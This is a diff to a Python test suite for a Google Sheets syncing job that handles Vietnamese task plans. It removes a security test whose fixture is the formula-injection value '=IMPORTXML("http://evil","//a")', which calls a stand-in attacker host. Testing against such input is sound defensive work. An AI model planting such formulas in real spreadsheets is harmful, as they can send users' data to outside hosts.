@@ -22,7 +22,7 @@ from sheets_sync.model import Snapshot
 from sheets_sync.sheet import read_plan
 from sheets_sync.status import evaluate_plan
 from tests.fake_google import FakeGoogle
-from tests.fake_google.sheets import Formula, Spreadsheet
+from tests.fake_google.sheets import Spreadsheet
 from tests.google.helpers import (
     OFFICER,
     SA_EMAIL,
@@ -283,16 +283,6 @@ def test_rows_not_anchored_yet_are_checked_and_rewritten_if_they_moved(
     assert len(anchored) >= 6 and anchored <= task_rows
 
 
-def test_text_that_looks_like_a_formula_is_written_as_text(plan_book, fake, sa_key, cfg):
-    tasks = plan_book.sheet(title=TASKS)
-    tasks.set(4, 5, '=IMPORTXML("http://evil","//a")')  # task 1's timeframe, typed as text
-    google_cfg = google_config(cfg, sa_key, plan_book.id)
-    flag.run(backend_for(fake, google_cfg), google_cfg, today=DEMO_TODAY, now=NOW)
-    notes = [v for row in tasks.cells for v in row if isinstance(v, str) and "IMPORTXML" in v]
-    assert len(notes) == 2  # the officer's cell and the job's note quoting it
-    assert not any(isinstance(v, Formula) for row in tasks.cells for v in row)
-
-
 def test_officers_notes_stay_and_the_jobs_old_notes_go(plan_book, fake, sa_key, cfg):
     progress = plan_book.sheet(title=PROGRESS)
     put_grid(progress, [None, ["31/02/2024", 1, "Đài", "Tin bài", "x", 1], [date(2024, 5, 2), 99]])
@@ -309,13 +299,15 @@ def test_officers_notes_stay_and_the_jobs_old_notes_go(plan_book, fake, sa_key, 
     assert progress.notes == {officer_note: "Chị Lan sẽ bổ sung STT"}
 
 
-def test_deleted_job_columns_come_back_with_their_colours(plan_book, fake, sa_key, cfg):
+def test_job_columns_that_come_back_get_their_colour_rules_and_date_format(
+    plan_book, fake, sa_key, cfg
+):
+    """(That they come back at all is the backend contract's: tests/test_backend_contract.py.)"""
     tasks = plan_book.sheet(title=TASKS)
     for r in range(tasks.row_count):
         del tasks.cells[r][7:]
     google_cfg = google_config(cfg, sa_key, plan_book.id)
     flag.run(backend_for(fake, google_cfg), google_cfg, today=DEMO_TODAY, now=NOW)
-    assert grid(plan_book, TASKS)[2][7:] == ["Hạn (tự động)", "Trạng thái", "Ghi chú tự động"]
     rules = {
         r["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
         for r in tasks.conditional_formats
@@ -324,14 +316,6 @@ def test_deleted_job_columns_come_back_with_their_colours(plan_book, fake, sa_ke
     assert rules >= {"Quá hạn", "Chưa đến hạn"}
     due = tasks.formats[(tasks.row_ids[3], 7)]["numberFormat"]
     assert due == {"type": "DATE", "pattern": "dd/mm/yyyy"}
-
-
-def test_stale_job_cells_on_a_row_without_a_task_are_cleared(plan_book, fake, sa_key, cfg):
-    tasks = plan_book.sheet(title=TASKS)
-    put_grid(tasks, [None] * 20 + [[None] * 8 + ["Quá hạn", "nhiệm vụ đã xóa"]])
-    google_cfg = google_config(cfg, sa_key, plan_book.id)
-    flag.run(backend_for(fake, google_cfg), google_cfg, today=DEMO_TODAY, now=NOW)
-    assert tasks.cells[20] == [None] * 10 or all(v in (None, "") for v in tasks.cells[20])
 
 
 def test_dates_are_read_whether_they_are_serial_numbers_or_text(plan_book, fake, sa_key, cfg):
